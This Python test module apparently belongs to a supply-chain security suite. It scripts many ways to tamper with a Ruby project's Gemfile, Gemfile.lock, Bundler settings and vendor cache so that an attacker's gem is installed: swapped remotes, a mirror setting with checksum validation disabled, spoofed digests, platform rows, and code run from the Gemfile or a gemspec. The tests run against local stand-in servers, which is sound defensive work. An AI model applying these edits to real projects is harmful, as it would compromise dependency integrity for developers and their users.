"""Mechanisms in Gemfile.lock, and in the files beside it."""

from tests.git import Git, repository
from tests.hostile_locks.clients import BUNDLER
from tests.hostile_locks.mechanism import OUTSIDE, mechanism
from tests.hostile_locks.scene import EVIL_GEM, GOOD_GEM, Scene, sha256
from tests.hostile_locks.world import EVIL, GOOD, gem, ruby_source, token
from tests.loopback import GemFile, GemPackage

_GOOD, _EVIL = sha256(GOOD_GEM.data), sha256(EVIL_GEM.data)
_GULL = sha256(gem("gull", "1.0.0", EVIL).data)
_KITE_CHECKSUM = r"  kite \(1\.1\.0\) sha256=[0-9a-f]+\n"
_SPEC = """Gem::Specification.new do |s|
  s.name = "kite"
  s.version = "1.1.0"
  s.summary = "a gem"
  s.authors = ["ada"]
  s.files = ["lib/kite.rb"]
end
"""


def _folder(scene: Scene, path: str) -> None:
    scene.write(f"{path}/kite.gemspec", _SPEC)
    scene.write(f"{path}/lib/kite.rb", ruby_source("kite", "1.1.0", EVIL))


def _from_folder(scene: Scene, path: str) -> None:
    """Take kite from a folder of the repository, in Gemfile and lock, as the honest syntax has it."""
    scene.replace('gem "kite", "~> 1.0"', f'gem "kite", "~> 1.0", path: "{path}"', "Gemfile")
    _leave(scene, f"PATH\n  remote: {path}\n  specs:\n    kite (1.1.0)\n\n")


def _drop_checksums(scene: Scene) -> None:
    scene.sub(r"^CHECKSUMS\n.*?\n\n", "")


def _checksum(scene: Scene, rows: str) -> None:
    """Replace the checksum of kite."""
    scene.sub(_KITE_CHECKSUM, rows)


def _publish(scene: Scene, version: str = "1.2.0", *, platform: str = "ruby") -> GemFile:
    """Publish another gem of the attacker on the honest server, beside the genuine one."""
    special = gem("kite", version, EVIL, platform=platform)
    scene.world.good.put_gem(GemPackage(name="kite", files=(GOOD_GEM, special)))
    return special


def _leave(scene: Scene, section: str) -> None:
    """Move kite from the registry to a section of its own."""
    scene.replace("    kite (1.1.0)\n", "")
    scene.write(scene.client.lock, section + scene.lock)
    scene.replace("  kite (~> 1.0)\n", "  kite (~> 1.0)!\n")
    _checksum(scene, "  kite (1.1.0)\n")


def _second_source(scene: Scene, checksum: str) -> None:
    """Move kite into a source of the attacker, in Gemfile and lock, as the honest syntax has it."""
    evil = scene.world.evil.gem_url
    scene.replace('gem "kite", "~> 1.0"', f'gem "kite", "~> 1.0", source: "{evil}"', "Gemfile")
    scene.replace("    kite (1.1.0)\n", "")
    scene.sub(r"(?=^PLATFORMS)", f"GEM\n  remote: {evil}\n  specs:\n    kite (1.1.0)\n\n")
    scene.replace("  kite (~> 1.0)\n", "  kite (~> 1.0)!\n")
    _checksum(scene, checksum)


@mechanism("other-place", BUNDLER, idea="1")
def other_place(scene: Scene) -> None:
    _second_source(scene, f"  kite (1.1.0) sha256={_EVIL}\n")


@mechanism("two-digests", BUNDLER, idea="1")
def two_digests(scene: Scene) -> None:
    _second_source(scene, f"  kite (1.1.0) sha256={_GOOD},sha256={_EVIL}\n")


@mechanism("two-digest-rows", BUNDLER, idea=OUTSIDE)
def two_rows(scene: Scene) -> None:
    _second_source(scene, f"  kite (1.1.0) sha256={_GOOD}\n  kite (1.1.0) sha256={_EVIL}\n")


@mechanism("other-place-no-digest", BUNDLER, idea=OUTSIDE)
def no_digest(scene: Scene) -> None:
    _second_source(scene, "  kite (1.1.0)\n")


@mechanism("unknown-algorithm", BUNDLER, idea=OUTSIDE)
def unknown_algorithm(scene: Scene) -> None:
    _second_source(scene, f"  kite (1.1.0) sha999={_GOOD}\n")


@mechanism("remote-replaced", BUNDLER, idea="1")
def remote_replaced(scene: Scene) -> None:
    """Point the whole lock and the Gemfile at the attacker's server, and drop the checksums."""
    good, evil = scene.world.good.gem_url, scene.world.evil.gem_url
    scene.replace(good, evil)
    scene.replace(good, evil, "Gemfile")
    _drop_checksums(scene)


@mechanism("remote-replaced-in-lock", BUNDLER, idea=OUTSIDE)
def remote_in_lock(scene: Scene) -> None:
    scene.replace(scene.world.good.gem_url, scene.world.evil.gem_url)
    _drop_checksums(scene)


@mechanism("second-remote", BUNDLER, idea=OUTSIDE)
def second_remote(scene: Scene) -> None:
    """Write a second remote into the one section, as old Bundlers did."""
    evil = scene.world.evil.gem_url
    scene.sub(r"(?<=^GEM\n)", f"  remote: {evil}\n")
    scene.write("Gemfile", f'source "{evil}"\n{(scene.folder / "Gemfile").read_text()}')
    _drop_checksums(scene)


@mechanism("platform-row", BUNDLER, idea=OUTSIDE)
def platform_row(scene: Scene) -> None:
    """Add a row for this machine's platform, which the honest server has from the attacker."""
    special = _publish(scene, "1.1.0", platform="x86_64-linux-gnu")
    scene.replace("    kite (1.1.0)\n", "    kite (1.1.0)\n    kite (1.1.0-x86_64-linux-gnu)\n")
    scene.sub(
        r"(?<=sha256=" + _GOOD + r"\n)", f"  kite (1.1.0-x86_64-linux-gnu) sha256={sha256(special.data)}\n"
    )


@mechanism("platform-not-in-lock", BUNDLER, idea=OUTSIDE)
def platform_unlisted(scene: Scene) -> None:
    """Publish a gem for this machine's platform, and let the lock have the name and version alone."""
    _publish(scene, "1.1.0", platform="x86_64-linux")
    _drop_checksums(scene)
    scene.replace("  ruby\n", "")


def _for_platforms(scene: Scene, row: str, *platforms: str) -> None:
    """Publish kite for three platforms, the attacker's for this machine, and leave one row for them in the lock."""
    built = [
        gem("kite", "1.1.0", side, platform=platform)
        for platform, side in (("x86_64-linux", EVIL), ("x86_64-linux-musl", GOOD), ("arm64-darwin", GOOD))
    ]
    scene.world.good.put_gem(GemPackage(name="kite", files=(GOOD_GEM, *built)))
    kept = next(one for one in built if one.platform == row)
    scene.replace("    kite (1.1.0)\n", f"    kite (1.1.0-{row})\n")
    scene.sub(r"  kite \(1\.1\.0\) sha256=[0-9a-f]+\n", f"  kite (1.1.0-{row}) sha256={sha256(kept.data)}\n")
    listed = "".join(f"  {platform}\n" for platform in platforms)
    scene.sub(r"^PLATFORMS\n(?:  \S+\n)+", f"PLATFORMS\n{listed}")


@mechanism("platform-row-taken-out", BUNDLER, idea="6")
def platform_row_out(scene: Scene) -> None:
    """Take out the row for this machine, which Bundler installs all the same."""
    _for_platforms(scene, "arm64-darwin", "arm64-darwin", "x86_64-linux")


@mechanism("platform-row-of-other-libc", BUNDLER, idea=OUTSIDE)
def platform_row_of_libc(scene: Scene) -> None:
    _for_platforms(scene, "x86_64-linux-musl", "x86_64-linux")


@mechanism("platform-ruby-taken-out", BUNDLER, idea=OUTSIDE)
def platform_ruby_out(scene: Scene) -> None:
    _for_platforms(scene, "arm64-darwin", "ruby")


@mechanism("local-folder", BUNDLER, idea="2", in_place="vendor/kite")
def path_section(scene: Scene) -> None:
    _folder(scene, "vendor/kite")
    _from_folder(scene, "vendor/kite")


@mechanism("local-folder-of-gems", BUNDLER, idea=OUTSIDE, in_place="vendor/kite")
def folder_of_gems(scene: Scene) -> None:
    """Put the gemspec a folder deeper, where Bundler looks for it, too."""
    _folder(scene, "vendor/kite")
    _from_folder(scene, "vendor")


@mechanism("local-gemspec", BUNDLER, idea=OUTSIDE, in_place="vendor/kite")
def code_in_gemspec(scene: Scene) -> None:
    """Leave the library as it is, and run code in the gemspec, which Bundler does at every start."""
    code = f"begin\n{ruby_source('kite', '1.1.0', EVIL)}rescue StandardError\nend\n"
    scene.write("vendor/kite/kite.gemspec", code + _SPEC)
    scene.write("vendor/kite/lib/kite.rb", "VALUE = 1\n")
    _from_folder(scene, "vendor/kite")


@mechanism("local-folder-outside", BUNDLER, idea="2", in_place="../elsewhere/kite")
def folder_outside(scene: Scene) -> None:
    _folder(scene, "../elsewhere/kite")
    _from_folder(scene, "../elsewhere/kite")


@mechanism("local-git", BUNDLER, idea="2")
def git_section(scene: Scene) -> None:
    git = repository(scene.folder.parent / "kite-git")
    (git.folder / "lib").mkdir()
    (git.folder / "kite.gemspec").write_text(_SPEC)
    (git.folder / "lib/kite.rb").write_text(ruby_source("kite", "1.1.0", EVIL))
    commit = git.commit()
    url = f"file://{git.folder}"
    scene.replace('gem "kite", "~> 1.0"', f'gem "kite", "~> 1.0", git: "{url}"', "Gemfile")
    _leave(scene, f"GIT\n  remote: {url}\n  revision: {commit}\n  specs:\n    kite (1.1.0)\n\n")


@mechanism("cached-gem", BUNDLER, idea=OUTSIDE, words=("install", "--local"), settings_file="vendor/cache")
def cached_gem(scene: Scene) -> None:
    """Commit gems where Bundler looks first, which is all that `--local` asks; the lock has no checksum."""
    fleet = gem("fleet", "2.0.0", "good")
    scene.write("vendor/cache/fleet-2.0.0.gem", fleet.data)
    scene.write("vendor/cache/kite-1.1.0.gem", EVIL_GEM.data)
    Git(scene.folder)("add", "--force", "vendor/cache")
    _drop_checksums(scene)


@mechanism("cached-gem-with-digest", BUNDLER, idea=OUTSIDE)
def cached_gem_with_digest(scene: Scene) -> None:
    scene.write("vendor/cache/kite-1.1.0.gem", EVIL_GEM.data)
    _checksum(scene, f"  kite (1.1.0) sha256={_GOOD},sha256={_EVIL}\n")


@mechanism("mirror-in-settings", BUNDLER, idea="8", settings_file=".bundle/config")
def mirror(scene: Scene) -> None:
    scene.write(".bundle/config", f'---\nBUNDLE_MIRROR__ALL: "{scene.world.evil.gem_url}"\n')
    _drop_checksums(scene)


@mechanism("checksums-ignored", BUNDLER, idea=OUTSIDE, settings_file=".bundle/config")
def checksums_ignored(scene: Scene) -> None:
    scene.write(
        ".bundle/config",
        f'---\nBUNDLE_MIRROR__ALL: "{scene.world.evil.gem_url}"\nBUNDLE_DISABLE_CHECKSUM_VALIDATION: "true"\n',
    )


@mechanism("other-gemfile", BUNDLER, idea=OUTSIDE, settings_file=".bundle/config")
def other_gemfile(scene: Scene) -> None:
    scene.write(".bundle/config", '---\nBUNDLE_GEMFILE: "other/Gems"\n')
    text = (scene.folder / "Gemfile").read_text()
    scene.write("other/Gems", f'{text}gem "gull"\n')


@mechanism("unanswered-in-manifest", BUNDLER, idea="6")
def asked_in_gemfile(scene: Scene) -> None:
    scene.write("Gemfile", f'{(scene.folder / "Gemfile").read_text()}gem "gull"\n')


@mechanism("unanswered-in-lock", BUNDLER, idea="6")
def unanswered_in_lock(scene: Scene) -> None:
    scene.replace("      kite (>= 1.0.0)\n", "      gull\n      kite (>= 1.0.0)\n")


@mechanism("entry-taken-out", BUNDLER, idea="6")
def entry_taken_out(scene: Scene) -> None:
    _publish(scene)
    scene.replace("    kite (1.1.0)\n", "")
    _checksum(scene, "")


@mechanism("conditional-gemfile", BUNDLER, idea=OUTSIDE)
def conditional(scene: Scene) -> None:
    """Ask for a gem by words that no reader without Ruby understands, with an entry in the lock."""
    text = (scene.folder / "Gemfile").read_text()
    scene.write("Gemfile", f'{text}send(:gem, "gu" + "ll")\n')
    scene.replace("    kite (1.1.0)\n", "    gull (1.0.0)\n    kite (1.1.0)\n")
    scene.replace("  kite (~> 1.0)\n", "  gull\n  kite (~> 1.0)\n")
    scene.sub(r"(?=  kite \(1\.1\.0\) sha256)", f"  gull (1.0.0) sha256={_GULL}\n")


@mechanism("code-in-gemfile", BUNDLER, idea=OUTSIDE, settings_file="Gemfile")
def code_in_gemfile(scene: Scene) -> None:
    """Run code when the Gemfile is read: it writes the attacker's file where gems are installed."""
    code = (
        'require "fileutils"\nFileUtils.mkdir_p("installed/kite")\n'
        f'File.write("installed/kite/kite.rb", "# {token(EVIL, "kite", "1.1.0")}")\n'
    )
    scene.write("Gemfile", code + (scene.folder / "Gemfile").read_text())


@mechanism("lock-cut", BUNDLER, idea="6")
def cut(scene: Scene) -> None:
    """Cut the lock after its first package; what is missing comes from a newer release of the attacker."""
    _publish(scene)
    scene.sub(r"    kite \(1\.1\.0\).*\Z", "")


@mechanism("duplicate-entry-key", BUNDLER, idea=OUTSIDE)
def duplicate(scene: Scene) -> None:
    _publish(scene)
    scene.replace("    kite (1.1.0)\n", "    kite (1.1.0)\n    kite (1.2.0)\n")


@mechanism("merge-conflict", BUNDLER, idea=OUTSIDE)
def merge_conflict(scene: Scene) -> None:
    scene.replace(
        "    kite (1.1.0)\n", "<<<<<<< HEAD\n    kite (1.1.0)\n=======\n    kite (1.2.0)\n>>>>>>> topic\n"
    )


@mechanism("other-bundler", BUNDLER, idea=OUTSIDE)
def other_bundler(scene: Scene) -> None:
    scene.sub(r"(?<=^BUNDLED WITH\n)   [^\n]+\n", "   99.0.0\n")


@mechanism("bundler-replaced", BUNDLER, idea=OUTSIDE)
def bundler_replaced(scene: Scene) -> None:
    """Name a release of Bundler that the attacker published: the one that runs fetches it and hands over."""
    scene.world.good.put_gem(GemPackage(name="bundler", files=(gem("bundler", "2.6.99", EVIL),)))
    scene.sub(r"(?<=^BUNDLED WITH\n)   [^\n]+\n", "   2.6.99\n")


@mechanism("plugin", BUNDLER, idea="8", settings_file="Gemfile")
def plugin(scene: Scene) -> None:
    scene.write("Gemfile", f'{(scene.folder / "Gemfile").read_text()}plugin "gull"\n')
